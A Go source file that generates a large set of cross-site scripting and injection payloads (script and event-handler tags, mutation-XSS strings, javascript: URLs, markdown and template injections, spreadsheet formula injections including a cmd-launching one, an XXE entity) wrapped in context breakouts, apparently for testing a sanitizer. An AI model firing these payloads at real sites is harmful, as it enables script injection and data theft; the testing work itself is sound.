package main

import (
	"encoding/json"
	"fmt"
	"strings"
)

// A vector is a text that runs something, asks for something or breaks out where
// it is written carelessly. RUN stands for the deed of a script, ASK for an
// address elsewhere. Quiet ones do nothing in a page that is only careless about HTML:
// they are meant for another language, or for another reader.
type vector struct {
	text  string
	quiet bool
}

var vectors = append(loud(
	`<script>RUN</script>`, `<ScRiPt >RUN</sCrIpT >`, `<script src=ASK></script>`, `<script type=module>RUN</script>`,
	`<img src=x: onerror=RUN>`, `<IMG SRC=x: OnErRoR=RUN>`, `<img/src="x:"/onerror=RUN>`, "<img\tsrc=x:\nonerror=RUN>", `<img src="x:" onerror="RUN" alt=''>`, `<img src=ASK>`,
	`<img srcset="ASK 2x">`, `<picture><source srcset=ASK><img></picture>`, `<image src=ASK>`, `<input type=image src=x: onerror=RUN>`, `<input autofocus onfocus=RUN>`,
	`<svg onload=RUN>`, `<svg/onload=RUN//`, `<svg><script>RUN</script></svg>`, `<svg><animate onbegin=RUN attributeName=x dur=1s>`, `<svg><image href=ASK></svg>`,
	`<svg><style><img src=x: onerror=RUN></style></svg>`, `<svg></p><style><a id="</style><img src=x: onerror=RUN>">`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=RUN&gt;"><img src=x: onerror=RUN>`,
	`<noscript><p title="</noscript><img src=x: onerror=RUN>">`, `<iframe srcdoc="<script>RUN</script>"></iframe>`, `<iframe src="javascript:RUN"></iframe>`,
	`<iframe src=ASK></iframe>`, `<object data=ASK></object>`, `<embed src=ASK>`, `<link rel=stylesheet href=ASK>`, `<link rel=preload as=image href=ASK>`,
	`<style>@import "ASK";</style>`, `<style>*{background:url(ASK)}</style>`, `<div style="background:url(ASK)">x</div>`, `<b style='list-style-image:url(ASK);display:list-item'>x</b>`,
	`<video poster=ASK></video>`, `<video src=x: onerror=RUN></video>`, `<audio src=x: onerror=RUN></audio>`, `<video><source src=x: onerror=RUN></video>`,
	`<details open ontoggle=RUN>x</details>`, `<body onload=RUN>`, `<select autofocus onfocus=RUN></select>`, `<a href=javascript:RUN>x</a>`, `<a href="java&#9;script:RUN">x</a>`,
	`<form action=javascript:RUN><button>x</button></form>`, `<form><button formaction=javascript:RUN>x</button></form>`,
	`<x onfocus=RUN id=x tabindex=0 autofocus>`, `<meta http-equiv=refresh content="0;url=ASK">`, `<base href=ASK/><img src=x>`,
	`<textarea><img title="</textarea><img src=x: onerror=RUN>">`, `<table><td background=ASK>x</td></table>`,
), hushed(
	`<scr<script>ipt>RUN</script>`, `<template><img src=x: onerror=RUN></template>`, `<!--<script>RUN</script>`, `<xmp><script>RUN</script>`, `<plaintext><script>RUN`, `<a href="data:text/html,<script>RUN</script>">x</a>`,
	`&lt;img src=x: onerror=RUN&gt;`, `&#60;script&#62;RUN&#60;/script&#62;`, `\u003cscript\u003eRUN\u003c/script\u003e`, `%3Cscript%3ERUN%3C/script%3E`, `+ADw-script+AD4-RUN+ADw-/script+AD4-`,
	"\uff1cscript\uff1eRUN\uff1c/script\uff1e", `javascript:RUN`, `JaVaScRiPt:RUN`, "java\tscript:RUN", "\u0001javascript:RUN", `data:text/html,<script>RUN</script>`, `vbscript:RUN`, `//elsewhere.invalid/x`, `ASK`,
	`[x](javascript:RUN)`, `[x](data:text/html,<script>RUN</script>)`, `![x](ASK)`, `[![x](ASK)](javascript:RUN)`, `<javascript:RUN>`, "[x]: javascript:RUN\n\n[x]", `![x](x:"onerror="RUN)`, "```<img src=x: onerror=RUN>```",
	`{{constructor.constructor('RUN')()}}`, `${RUN}`, `#{RUN}`, `<%= RUN %>`, `{{.}}{{define "x"}}RUN{{end}}`, `{title} {n} {workbook}`, `';RUN//`, `\';RUN//`, "`+RUN+`",
	`=HYPERLINK("ASK";"x")`, `=cmd|'/C calc'!A0`, `+RUN`, `-RUN`, `@SUM(1;RUN)`, "\t=RUN", "\r=RUN", "\n=RUN", `=IMPORTXML("ASK";"//a")`, `"=RUN`, `';=RUN`,
	`expression(RUN)`, `url(ASK)`, `}*{background:url(ASK)}`, `@import url(ASK)`, "\u2028RUN//\u2029", "\u202e>tpircs<", "BEGIN:VALARM\r\nATTACH:ASK\r\nEND:VALARM", `]]><w:hyperlink r:id="ASK"/>`, `<?xml-stylesheet href="ASK"?>`,
	`<!DOCTYPE x [<!ENTITY e SYSTEM "ASK">]>&e;`, `constructor`, `__proto__`, `hasOwnProperty`, `toString`,
)...)

// breakouts end what a text may stand in: %s in a page that is careless.
var breakouts = []struct{ out, in string }{
	{``, `<p>%s</p>`}, {`">`, `<input value="%s">`}, {`'>`, `<input value='%s'>`},
	{`</title></textarea></style></noscript></select></template></script>`, `<textarea>%s</textarea>`}, {`-->`, `<!-- %s -->`}, {`]]>`, `<svg><![CDATA[%s]]></svg>`},
}

func loud(texts ...string) (all []vector) {
	for _, text := range texts {
		all = append(all, vector{text, false})
	}
	return all
}

func hushed(texts ...string) []vector {
	all := loud(texts...)
	for i := range all {
		all[i].quiet = true
	}
	return all
}

// A payload is a vector behind a way out. What it runs or asks has its number.
type payload struct {
	text, in string
	quiet    bool
}

// payloads gives them all: every loud one behind each of the first ways out,
// and others behind some.
func payloads() (all []payload) {
	for _, v := range vectors {
		for i, b := range breakouts {
			if i > 0 && (v.quiet || i > 3) && (i+len(all))%4 != 0 {
				continue
			}
			n := fmt.Sprint(len(all))
			fill := strings.NewReplacer("RUN", "alert("+n+")", "ASK", "https://elsewhere.invalid/"+n)
			all = append(all, payload{b.out + fill.Replace(v.text), b.in, v.quiet})
		}
	}
	return all
}

// payloadTexts are the payloads as JavaScript writes them.
func payloadTexts() string {
	var all []string
	for _, p := range payloads() {
		all = append(all, p.text)
	}
	data, _ := json.Marshal(all)
	return string(data)
}
